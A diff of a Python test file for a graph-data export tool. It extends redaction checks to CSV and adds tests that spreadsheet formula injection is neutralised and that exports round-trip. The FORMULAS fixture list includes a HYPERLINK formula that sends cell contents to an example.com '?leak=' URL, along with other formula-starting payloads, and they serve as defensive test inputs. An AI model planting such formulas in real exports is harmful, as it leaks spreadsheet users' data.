@@ -116,10 +116,10 @@ def test_graphml_and_gexf_parse_with_the_right_counts_and_attributes(loaded, cli
     assert 'type="PART_OF"' not in gexf  # GEXF reserves an edge's type for its direction
 
 
-def test_a_redacted_network_file_names_no_protected_person(loaded, cli, tmp_path):
-    for fmt in ("graphml", "gexf"):
+def test_a_redacted_export_names_no_protected_person_in_any_format(loaded, cli, tmp_path):
+    for fmt in ("graphml", "gexf", "csv"):
         assert cli("export", tmp_path / fmt, "--format", fmt, "--redact").returncode == 0
-        text = (tmp_path / fmt / f"graph.{fmt}").read_text(encoding="utf-8")
+        text = "\n".join(p.read_text(encoding="utf-8") for p in sorted((tmp_path / fmt).iterdir()))
         for real in ("Seventeen-year-old from the Almaty region", "person:taldykorgan-teenager", "Victim",
                      "person:victim"):
             assert not re.search(r"(?<!\w)" + re.escape(real) + r"(?!\w)", text), (fmt, real)
@@ -129,3 +129,46 @@ def test_a_redacted_network_file_names_no_protected_person(loaded, cli, tmp_path
     assert "person:taldykorgan-teenager" in (tmp_path / "plain" / "graph.gexf").read_text(encoding="utf-8")
     refused = cli("export", tmp_path / "x", "--format", "jsonl", "--redact")
     assert refused.returncode == 1 and "gexf" in refused.stderr
+
+
+# -- our own dataset format, safe in a spreadsheet ------------------------------
+
+FORMULAS = ["=HYPERLINK(\"http://example.com/?leak=\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A2)",
+            "'=already quoted", "'t Hooft"]
+
+
+def test_csv_export_loads_back_to_the_same_graph(loaded, tmp_path):
+    from graph.dataset_export import write
+    from tests.conftest import snapshot
+    loaded.write("admin/delete_everything")
+    ingest(loaded, SAMPLE)
+    before = snapshot(loaded)
+    write(loaded, tmp_path / "ds", dataset="kazakhstan-2022")
+    loaded.write("admin/delete_everything")
+    ingest(loaded, tmp_path / "ds")
+    assert snapshot(loaded) == before
+
+
+def test_formula_payloads_are_neutralised_and_round_trip(graph, tmp_path):
+    import csv as csv_module
+    from graph.cells import FORMULA_STARTS, neutralise
+    from graph.dataset_export import write
+    from tests.conftest import snapshot
+    # The values the graph must hold, written as a careful researcher (or our export) writes them.
+    people = [{"id": f"person:f{i}", "name": neutralise(value), "sources": "src:a"}
+              for i, value in enumerate(FORMULAS)]
+    folder = small(tmp_path / "in", name="formulas", people=people + [
+        {"id": "person:officer", "name": "Officer One", "sources": "src:a"},
+        {"id": "person:victim", "name": "Victim", "sources": "src:a"}])
+    ingest(graph, folder)
+    names = {r["id"]: r["properties"].get("name") for r in graph.read("export/nodes")}
+    assert [names[f"person:f{i}"] for i in range(len(FORMULAS))] == FORMULAS
+    before = snapshot(graph)
+    write(graph, tmp_path / "out", dataset="formulas")
+    for path in (tmp_path / "out").glob("*.csv"):
+        with open(path, encoding="utf-8", newline="") as f:
+            for row in csv_module.reader(f):
+                assert not [c for c in row if c.startswith(FORMULA_STARTS)], (path.name, row)
+    graph.write("admin/delete_everything")
+    ingest(graph, tmp_path / "out")
+    assert snapshot(graph) == before
